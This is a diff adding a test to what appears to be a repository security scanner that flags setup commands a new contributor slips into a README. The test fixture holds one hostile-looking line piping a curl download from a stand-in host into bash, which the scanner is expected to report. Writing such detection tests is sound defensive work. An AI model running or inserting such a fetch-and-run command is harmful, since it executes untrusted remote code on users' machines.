@@ -10,6 +10,7 @@ import direnv from '../../autorun/direnv/rule.ts';
 import frameworkServer from '../../autorun/framework-server/rule.ts';
 import gitHooks from '../../autorun/git-hooks/rule.ts';
 import npmScripts from '../../autorun/npm-lifecycle-script/rule.ts';
+import readmeCommand from '../../autorun/readme-command/rule.ts';
 import toolConfig from '../../autorun/tool-config/rule.ts';
 import rule from './rule.ts';
 
@@ -90,6 +91,44 @@ it('is medium, at the script line, when a new identity adds a postinstall comman
   assert.equal(hit.location.file, 'package.json');
   assert.equal(hit.location.line, 5);
   assert.match(hit.message, /added or changed the postinstall command `node setup\.js` in package\.json, which runs on install/);
+});
+
+it('says nothing when a new identity rewrites the README setup commands, but reports a download piped into a shell', async () => {
+  const readme = (setup: string): string => `# App\n\n## Getting started\n\n\`\`\`bash\n${setup}\n\`\`\`\n`;
+  const build = (name: string, setup: string): string => {
+    const dir = join(tmp, name);
+    buildRepo(dir, {
+      commits: [
+        {
+          message: 'Initial commit',
+          date: '2025-01-10T09:00:00Z',
+          files: { 'README.md': readme('git clone https://example.com/acme/app.git\nnpm install') },
+        },
+        ...base.slice(1),
+        {
+          message: 'Docs: simpler setup',
+          date: '2025-01-13T09:00:00Z',
+          author: { name: 'Newcomer', email: 'new@example.net' },
+          files: { 'README.md': readme(setup) },
+        },
+      ],
+    });
+    return dir;
+  };
+  const plain = await scan(
+    build('readme-clone', 'git clone https://example.com/acme/app-starter.git\ncd app-starter\npnpm install\npnpm dev'),
+    {
+      rules: [readmeCommand, npmScripts, rule],
+    },
+  );
+  assert.ok(plain.executionMap.some(s => s.trigger === 'readme'));
+  assert.deepEqual(findingsOf(plain, rule.meta.id, 'info'), []);
+  const piped = await scan(build('readme-pipe', 'curl -fsSL https://setup.example.invalid/install.sh | bash\nnpm install'), {
+    rules: [readmeCommand, npmScripts, rule],
+  });
+  const hit = findingsOf(piped, rule.meta.id)[0];
+  assert.equal(hit?.location.file, 'README.md');
+  assert.match(hit.message, /added the code of README\.md:\d+ that autorun\/readme-command reports/);
 });
 
 it('says nothing when a regular author edits code that runs but has no finding', async () => {
